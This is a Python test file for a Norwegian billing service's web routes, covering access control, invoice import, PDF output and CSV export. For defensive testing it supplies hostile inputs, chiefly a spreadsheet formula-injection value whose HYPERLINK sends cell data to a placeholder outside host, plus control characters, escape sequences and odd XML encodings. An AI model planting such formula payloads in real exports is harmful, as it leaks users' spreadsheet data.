"""Billing's HTTP routes on fakes (no database, no broker): who sees what, the JSON as clients read it, and bad
input answered with a 4xx that says in Norwegian what is wrong and where — never a 5xx."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from kit.auth import Role, User
from tests.billing.factory import Line, csv_invoice, ehf
from tests.unit.billing.events import ORGNR, deliver, placed
from tests.unit.billing.fakes import billing
from tests.web import client

WORKER = User("veileder-grunerlokka", Role.CASE_WORKER, "nav-grunerlokka")
OTHER_WORKER = User("veileder-bodo", Role.CASE_WORKER, "nav-bodo")
LEADER = User("leder-grunerlokka", Role.OFFICE_LEADER, "nav-grunerlokka")
FINANCE = User("okonomi", Role.FINANCE)
OPERATIONS = User("drift", Role.OPERATIONS)
CSV = {"content-type": "text/csv"}
XML = {"content-type": "application/xml"}


async def with_requisition(**kw):
    b = billing(**kw)
    await deliver(b.bus, placed())
    [r] = b.store.requisitions.values()
    return b, r.number


def row(number, **changes) -> dict:
    return {"supplier_orgnr": ORGNR, "supplier_name": "Blå Kors", "invoice_number": "F-1",
            "issue_date": "2026-04-01", "requisition": number, "first_night": "2026-03-03",
            "last_night": "2026-03-05", "nights": 3, "price_per_night": "1000", "amount": "3000"} | changes


async def imported(b, number, **changes) -> dict:
    async with client(b.app, FINANCE) as c:
        r = await c.post("/api/invoices", headers=CSV, content=csv_invoice([row(number, **changes)]))
    assert r.status_code == 201, r.text
    return r.json()["invoices"][0]


def problem(r) -> tuple[list, str]:
    assert 400 <= r.status_code < 500, r.text
    first = r.json()["errors"][0]
    return first["loc"], first["msg"]


async def test_case_workers_see_their_offices_requisitions_and_finance_sees_all():
    b, number = await with_requisition()
    await deliver(b.bus, placed(office_id="nav-bodo"))
    async with client(b.app, WORKER) as c:
        mine = (await c.get("/api/requisitions")).json()["items"]
    async with client(b.app, FINANCE) as c:
        every = (await c.get("/api/requisitions")).json()["items"]
    assert [r["office_id"] for r in mine] == ["nav-grunerlokka"] and len(every) == 2
    assert mine[0]["number"] == number and mine[0]["price_per_night"] == "1000.00"
    assert (mine[0]["nights"], mine[0]["max_amount"]) == (29, "29000.00")


async def test_requisitions_filter_by_status_and_bound_the_page():
    b, _ = await with_requisition()
    async with client(b.app, FINANCE) as c:
        assert (await c.get("/api/requisitions", params={"status": "closed"})).json()["items"] == []
        assert problem(await c.get("/api/requisitions", params={"page_size": 0}))[0] == ["query", "page_size"]
        assert problem(await c.get("/api/requisitions", params={"status": "x" * 5000}))[0] == ["query", "status"]


async def test_the_pdf_is_for_the_requisitions_office_and_dated_by_the_clock():
    b, number = await with_requisition()
    b.today = date(2026, 12, 1)
    async with client(b.app, WORKER) as c:
        pdf = await c.get(f"/api/requisitions/{number}.pdf")
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    import pypdf
    assert "Dato 01.12.2026" in pypdf.PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    async with client(b.app, OTHER_WORKER) as c:
        assert (await c.get(f"/api/requisitions/{number}.pdf")).status_code == 403
        assert (await c.get("/api/requisitions/R2026-999999-0.pdf")).status_code == 404


async def test_the_pdf_names_the_office_with_its_address_phone_and_mailbox_from_intakes_registry():
    import pypdf

    import contracts
    from tests.unit.billing.events import envelope

    b, number = await with_requisition()
    async with client(b.app, WORKER) as c:
        before = pypdf.PdfReader(io.BytesIO((await c.get(f"/api/requisitions/{number}.pdf")).content))
        assert "nav-grunerlokka" in before.pages[0].extract_text()  # intake's event not here yet: the id
        await deliver(b.bus, envelope(contracts.OfficeRegistered(
            office_id="nav-grunerlokka", name="Nav Grünerløkka", municipality="0301", district="Grünerløkka",
            address="Thorvald Meyers gate 12, 0555 Oslo", phone="55553333", email="bolig.grunerlokka@nav.example")))
        pdf = await c.get(f"/api/requisitions/{number}.pdf")
    text = pypdf.PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    for expected in ("Nav Grünerløkka", "Thorvald Meyers gate 12, 0555 Oslo", "55 55 33 33",
                     "bolig.grunerlokka@nav.example"):
        assert expected in text, expected


@pytest.mark.parametrize("number", ["R2026%00-1", "R%01%02", "R" + "9" * 5000])
async def test_a_requisition_number_with_control_characters_or_too_long_is_refused(number):
    b, _ = await with_requisition()
    async with client(b.app, WORKER) as c:
        loc, msg = problem(await c.get(f"/api/requisitions/{number}.pdf"))
    assert loc == ["path", "number"] and ("kontrolltegn" in msg or "for lang" in msg or "characters" in msg)


async def test_without_login_the_api_answers_401_and_other_roles_403():
    b, number = await with_requisition()
    async with client(b.app) as c:
        assert (await c.get("/api/requisitions")).status_code == 401
    async with client(b.app, OPERATIONS) as c:
        assert (await c.get("/api/requisitions")).status_code == 403
    async with client(b.app, WORKER) as c:
        assert (await c.get("/api/invoices")).status_code == 403
        assert (await c.post("/api/invoices", headers=CSV, content=csv_invoice([row(number)]))).status_code == 403
    assert b.store.invoices == {}


async def test_an_import_answers_the_invoice_with_money_as_strings():
    b, number = await with_requisition()
    invoice = await imported(b, number)
    assert (invoice["status"], invoice["claimed"], invoice["payable"], invoice["approved_amount"]) == (
        "matched", "3000.00", "3000.00", None)
    [line] = invoice["lines"]
    assert line == {"position": 1, "line_id": "1", "requisition": number, "first_night": "2026-03-03",
                    "last_night": "2026-03-05", "claimed_nights": 3, "payable_nights": 3, "claimed_price": "1000.00",
                    "claimed_amount": "3000.00", "payable_amount": "3000.00", "status": "matched", "findings": [],
                    "reasons": [], "comment": None}
    async with client(b.app, FINANCE) as c:
        listed = (await c.get("/api/invoices")).json()["items"]
        one = (await c.get(f"/api/invoices/{invoice['invoice_id']}")).json()
    assert [i["invoice_id"] for i in listed] == [invoice["invoice_id"]] and "lines" not in listed[0]
    assert one == invoice


async def test_an_invoice_received_before_the_nights_has_them_not_yet_stayed():
    b, number = await with_requisition(today=date(2026, 3, 1))
    invoice = await imported(b, number)
    assert invoice["findings"] == ["nights_not_yet_stayed"] and invoice["payable"] == "0.00"
    assert invoice["status"] == "disputed" and "ikke passert ennå" in invoice["lines"][0]["reasons"][0]


@pytest.mark.parametrize("column, value, words", [
    ("amount", "NaN", "Rad 2: amount er ikke et endelig tall"),
    ("amount", "Infinity", "Rad 2: amount er ikke et endelig tall"),
    ("amount", "3000,001", "Rad 2: amount må være i hele øre"),
    ("amount", "2000000000", "Rad 2: amount er utenfor grensen"),
    ("price_per_night", "1e400", "Rad 2: price_per_night er utenfor grensen"),
    ("nights", "sNaN", "Rad 2: nights er ikke et endelig tall"),
    ("nights", "99999999", "Rad 2: nights er utenfor grensen"),
    ("last_night", "2030-03-05", "Rad 2: har en periode på over 366 netter"),
    ("first_night", "1900-01-01", "Rad 2: first_night må ligge mellom"),
    ("supplier_name", "Blå\x00Kors", "Rad 2: supplier_name inneholder kontrolltegn"),
    ("invoice_number", "F-\x1b[1", "Rad 2: invoice_number inneholder kontrolltegn"),
    ("invoice_number", "F" * 5000, "Rad 2: invoice_number er for lang"),
])
async def test_bad_money_counts_and_text_in_a_csv_invoice_are_refused_naming_row_and_column(column, value, words):
    b, number = await with_requisition()
    async with client(b.app, FINANCE) as c:
        loc, msg = problem(await c.post("/api/invoices", headers=CSV, content=csv_invoice([row(number,
                                                                                            **{column: value})])))
    assert loc == ["body", "document"] and words in msg
    assert b.store.invoices == {}


@pytest.mark.parametrize("declaration", ["UTF-7", "UTF-32", "x-no-such-encoding", "ISO-8859-1"])
async def test_xml_declaring_another_encoding_is_refused_on_both_upload_endpoints(declaration):
    b, number = await with_requisition()
    document = ehf(number="F-1", supplier_orgnr=ORGNR, order_reference=number,
                   lines=[Line(date(2026, 3, 3), date(2026, 3, 5), Decimal(1000))])
    document = document.replace(b'encoding="UTF-8"', f'encoding="{declaration}"'.encode())
    async with client(b.app, FINANCE) as c:
        loc, msg = problem(await c.post("/api/invoices", headers=XML, content=document))
    assert loc == ["body", "document"] and declaration in msg and "UTF-8" in msg
    async with client(b.app, FINANCE, page=True) as c:
        page = await c.post("/invoices", files={"document": ("f.xml", document, "application/xml")})
    assert page.status_code == 422 and 'id="document-error"' in page.text and "UTF-8" in page.text
    assert b.store.invoices == {}


@pytest.mark.parametrize("data", ["<?xml version='1.0'?><Invoice/>".encode("utf-32"),
                                  "<?xml version='1.0'?><Invoice/>".encode("utf-16")])
async def test_xml_in_utf_16_or_32_is_refused(data):
    b, _ = await with_requisition()
    async with client(b.app, FINANCE) as c:
        loc, msg = problem(await c.post("/api/invoices", headers=XML, content=data))
    assert "UTF-8" in msg


async def test_nan_or_huge_amounts_in_an_ehf_are_refused_naming_the_line():
    b, number = await with_requisition()
    document = ehf(number="F-1", supplier_orgnr=ORGNR, order_reference=number,
                   lines=[Line(date(2026, 3, 3), date(2026, 3, 5), Decimal(1000))])
    for bad in (b"NaN", b"Infinity", b"1E+30"):
        changed = document.replace(b'<cbc:LineExtensionAmount currencyID="NOK">3000.00</cbc:LineExtensionAmount>\n'
                                   b'    <cac:InvoicePeriod>', b'<cbc:LineExtensionAmount currencyID="NOK">' + bad +
                                   b'</cbc:LineExtensionAmount>\n    <cac:InvoicePeriod>')
        assert changed != document
        async with client(b.app, FINANCE) as c:
            loc, msg = problem(await c.post("/api/invoices", headers=XML, content=changed))
        assert "Linje 1 (cbc:LineExtensionAmount)" in msg
    assert b.store.invoices == {}


async def test_the_export_neutralises_formulas_and_keeps_amounts_as_numbers():
    b, number = await with_requisition()
    invoice = await imported(b, number, supplier_name='=HYPERLINK("http://x.example/?q="&A1,"klikk")',
                             invoice_number="=1+2")
    async with client(b.app, FINANCE) as c:
        assert (await c.post(f"/api/invoices/{invoice['invoice_id']}/approve", json={"comment": ""})).status_code \
            == 200
        made = await c.post("/api/exports", json={"period_from": "2026-04-01", "period_to": "2026-04-02"})
        assert made.status_code == 201, made.text
        export = await c.get(made.json()["download"].removeprefix("/billing"))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Eksport", "Faktura-id", "Type"] and rows[1][2] == "Faktura"
    assert rows[1][4] == "'" + '=HYPERLINK("http://x.example/?q="&A1,"klikk")' and rows[1][5] == "'=1+2"
    assert rows[1][-2:] == ["3", "3000,00"] and rows[1][12:14] == ["03.03.2026", "05.03.2026"]


async def test_an_export_takes_each_line_once_and_gives_the_same_file_again():
    b, number = await with_requisition()
    first = await imported(b, number)
    async with client(b.app, FINANCE) as c:
        await c.post(f"/api/invoices/{first['invoice_id']}/approve", json={"comment": ""})
        period = {"period_from": "2026-04-01", "period_to": "2026-04-02"}
        due = (await c.get("/api/exports/due", params=period)).json()
        assert due == {**period, "lines": 1, "total": "3000.00"}
        one = (await c.post("/api/exports", json=period)).json()
        assert (one["lines"], one["total"], one["created_by"]) == (1, "3000.00", "okonomi")
        file = (await c.get(f"/api/exports/{one['id']}.csv")).content
        assert (await c.get(f"/api/exports/{one['id']}.csv")).content == file
        nothing = await c.post("/api/exports", json=period)
        assert nothing.status_code == 409 and "ingenting nytt" in nothing.json()["detail"]
    second = await imported(b, number, invoice_number="F-2", first_night="2026-03-06", last_night="2026-03-06",
                            nights=1, amount="1000")
    async with client(b.app, FINANCE) as c:
        await c.post(f"/api/invoices/{second['invoice_id']}/approve", json={"comment": ""})
        two = (await c.post("/api/exports", json={"period_from": "2026-03-01", "period_to": "2026-04-02"})).json()
        rows = (await c.get(f"/api/exports/{two['id']}.csv")).content.decode("utf-8-sig").splitlines()
        listed = (await c.get("/api/exports")).json()
        assert (await c.get(f"/api/exports/{one['id']}.csv")).content == file
    assert (two["lines"], two["total"]) == (1, "1000.00")
    assert len([r for r in rows[1:] if r.startswith(two["id"][:8])]) == 1 and "F-2" in rows[1]
    assert [e["id"] for e in listed] == [two["id"], one["id"]]


async def test_a_bad_period_is_refused_with_a_problem_and_next_to_the_field():
    b, _ = await with_requisition()
    async with client(b.app, FINANCE) as c:
        for period, field in ((("2026-04-02", "2026-04-01"), "period_from"), (("2026-04-01", "2099-01-01"),
                                                                               "period_to")):
            r = await c.post("/api/exports", json={"period_from": period[0], "period_to": period[1]})
            assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
            assert r.json()["errors"][0]["loc"][-1] == field
        assert (await c.post("/api/exports", json={"period_from": "1.4.2026", "period_to": "x"})).status_code == 422
    async with client(b.app, FINANCE, page=True) as c:
        page = await c.get("/export", params={"fra": "02.04.2026", "til": "01.04.2026"})
        typo = await c.get("/export", params={"fra": "32.13.2026", "til": "01.04.2026"})
    assert page.status_code == 422 and 'id="fra-feil"' in page.text and "før eller lik" in page.text
    assert typo.status_code == 422 and "dd.mm.åååå" in typo.text and 'value="32.13.2026"' in typo.text
    async with client(b.app, WORKER) as c:
        assert (await c.get("/api/exports")).status_code == 403


async def test_adjust_refuses_bad_amounts_and_comments_in_norwegian():
    b, number = await with_requisition()
    invoice = await imported(b, number)
    path = f"/api/invoices/{invoice['invoice_id']}/lines/1/adjust"
    async with client(b.app, FINANCE) as c:
        for amount, words in (("NaN", "endelig"), ("1e400", "grensen"), ("12.345", "hele øre"), ("-1", "negativt"),
                              ("tusen", "Skriv et beløp")):
            loc, msg = problem(await c.post(path, json={"payable_amount": amount, "comment": "x"}))
            assert loc == ["body", "payable_amount"] and words in msg, (amount, msg)
        for comment in ("Rettet\x00", "a\x07b", "x" * 5000):
            loc, msg = problem(await c.post(path, json={"payable_amount": "1", "comment": comment}))
            assert loc == ["body", "comment"]
        loc, _ = problem(await c.post(f"/api/invoices/{invoice['invoice_id']}/dispute", json={"comment": "nei\x00"}))
        assert loc == ["body", "comment"]
        for position in ("0", "100001", "9" * 30):
            r = await c.post(f"/api/invoices/{invoice['invoice_id']}/lines/{position}/adjust",
                             json={"payable_amount": "1", "comment": "x"})
            assert problem(r)[0] == ["path", "position"]
    assert b.store.invoices[next(iter(b.store.invoices))].lines[0].payable_amount == Decimal("3000.00")


async def test_approval_rules_answer_409_and_an_approved_invoice_never_changes():
    b, number = await with_requisition()
    disputed = await imported(b, number, amount="3100")
    async with client(b.app, FINANCE) as c:
        r = await c.post(f"/api/invoices/{disputed['invoice_id']}/approve", json={"comment": "ok"})
        assert r.status_code == 409 and "omstridt" in r.json()["detail"]
        adjusted = await c.post(f"/api/invoices/{disputed['invoice_id']}/lines/1/adjust",
                                json={"payable_amount": "3000.00", "comment": "Rettet"})
        assert adjusted.json()["lines"][0]["status"] == "adjusted"
        approved = await c.post(f"/api/invoices/{disputed['invoice_id']}/approve", json={"comment": "Rettet"})
        assert (approved.json()["decision"], approved.json()["approved_amount"]) == ("approved", "3000.00")
        again = await c.post(f"/api/invoices/{disputed['invoice_id']}/dispute", json={"comment": "nei"})
        assert again.status_code == 409 and "ny faktura eller kreditnota" in again.json()["detail"]
        missing = await c.post("/api/invoices/00000000-0000-0000-0000-000000000000/approve", json={})
        assert missing.status_code == 404


async def test_spend_for_finance_and_leaders():
    b, number = await with_requisition()
    invoice = await imported(b, number)
    async with client(b.app, FINANCE) as c:
        await c.post(f"/api/invoices/{invoice['invoice_id']}/approve", json={"comment": ""})
    async with client(b.app, LEADER) as c:
        spend = (await c.get("/api/spend")).json()
    assert spend == {"by_provider": [{"supplier_orgnr": ORGNR, "supplier_name": "Blå Kors", "amount": "3000.00",
                                      "nights": 3}],
                     "by_agreement_kind": [{"agreement_kind": "framework", "amount": "3000.00"}],
                     "outside_agreements": "0.00"}
    async with client(b.app, WORKER) as c:
        assert (await c.get("/api/spend")).status_code == 403


async def test_every_api_route_says_what_it_answers_and_bounds_every_string():
    b, _ = await with_requisition()
    async with client(b.app, FINANCE) as c:
        spec = (await c.get("/openapi.json")).json()
    for path, methods in spec["paths"].items():
        for method, op in methods.items():
            content = op["responses"][next(iter(op["responses"]))].get("content", {})
            assert content, f"{method} {path} has no response model"
    for name, schema in spec["components"]["schemas"].items():
        if name.endswith(("Adjust", "Settle")):
            for field, prop in schema["properties"].items():
                if prop.get("type") == "string":
                    assert "maxLength" in prop, (name, field)


async def test_the_pages_show_the_inbox_the_invoice_and_its_finding_in_norwegian():
    b, number = await with_requisition(today=date(2026, 3, 4))
    invoice = await imported(b, number)
    async with client(b.app, FINANCE, page=True) as c:
        inbox = await c.get("/invoices")
        page = await c.get(f"/invoices/{invoice['invoice_id']}")
        requisitions = await c.get("/")
        export = await c.get("/export")
    assert inbox.status_code == 200 and "Netter ikke passert ennå" in inbox.text
    assert page.status_code == 200 and "Netter ikke passert ennå" in page.text and number in page.text
    assert requisitions.status_code == 200 and number in requisitions.text
    assert export.status_code == 200 and "Eksport og forbruk" in export.text


async def test_the_adjust_form_shows_a_refused_comment_next_to_the_field_and_keeps_the_amount():
    b, number = await with_requisition()
    invoice = await imported(b, number, amount="3100")
    async with client(b.app, FINANCE, page=True) as c:
        page = await c.post(f"/invoices/{invoice['invoice_id']}/lines/1",
                            data={"payable_amount": "2 500,00", "comment": "Rettet\x00"})
        decision = await c.post(f"/invoices/{invoice['invoice_id']}/decision", data={"action": "x", "comment": "a"})
    assert page.status_code == 422 and 'id="kommentar-1-feil"' in page.text and 'value="2 500,00"' in page.text
    assert decision.status_code == 422 and "Velg godkjenn eller avvis" in decision.text
    assert b.store.invoices[next(iter(b.store.invoices))].lines[0].status == "disputed"


async def test_pages_send_the_browser_to_login_and_refuse_other_roles():
    b, _ = await with_requisition()
    async with client(b.app, page=True) as c:
        r = await c.get("/invoices")
        assert r.status_code == 303 and "/login" in r.headers["location"]
    async with client(b.app, WORKER, page=True) as c:
        assert (await c.get("/invoices")).status_code == 403
